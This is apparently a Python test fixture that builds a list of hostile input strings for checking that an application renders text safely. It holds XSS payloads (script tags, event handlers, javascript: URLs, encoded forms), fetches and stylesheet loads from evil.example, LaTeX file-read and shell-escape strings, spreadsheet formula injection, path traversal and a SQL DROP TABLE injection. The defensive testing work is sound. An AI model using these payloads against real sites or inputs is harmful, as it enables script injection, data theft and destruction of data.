"""Strings that try to become something other than text: markup, scripts, templates, styles, directions, control characters."""

_CALLS = ("alert(1)", "window.owned=1", "parent.owned=1", "fetch('//evil.example')", "document.title='owned'")
_MARKUP = (
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>",
    "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>", "\"><img src=x onerror={}>",
    "'><img src=x onerror={}>", "</text><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>",
    "</textarea><script>{}</script>", "<a href=javascript:{}>x</a>", "<math><mtext></mtext><script>{}</script></math>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<form action=javascript:{}><button>x", "<template><img src=x onerror={}></template>",
    "<!--><img src=x onerror={}>-->", "<![CDATA[<img src=x onerror={}>]]>", "&lt;img src=x onerror={}&gt;",
    "javascript:{}", "data:text/html,<script>{}</script>", "${{{}}}", "{{{{{}}}}}", "`${{{}}}`", "';{}//", "\";{}//", "\\';{}//",
    "\\u003cscript\\u003e{}", "%3Cscript%3E{}%3C/script%3E", "<img src=x onerror=&#{}>", "<svg/onload={}>", "<ScRiPt>{}</sCrIpT>",
    "<link rel=stylesheet href=//evil.example/{}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/{}>", "<style>@import '//evil.example/{}'</style>", "<div style=background:url(//evil.example/{})>",
)  # fmt: skip
_OTHER = (
    "\u202eabc\u202c", "\u2066\u2067\u2068", "a\u0300\u0301\u0302", "\ufeffx", "\u200b\u200c\u200d", "\ud7ff", "👩‍👩‍👧‍👦",
    "\\input{/etc/passwd}", "\\write18{ls}", "$x$ % & # _ { } ~ ^ \\", "=cmd|'/c calc'!A1", "+SUM(A1)", "-1+1", "@SUM(A1)",
    "../../etc/passwd", "__proto__", "constructor", "toString", "null", "undefined", "NaN", "<s>", "</s>", "<unk>", "]]>", "-->",
    "a" * 300, "한" * 80, "가\u1100\u1161", "\u0001\u0002", "tab\there", "\\0", "'; DROP TABLE runs; --",
)  # fmt: skip

HOSTILE = [shape.replace("{}", call) for shape in _MARKUP for call in _CALLS] + list(_OTHER)
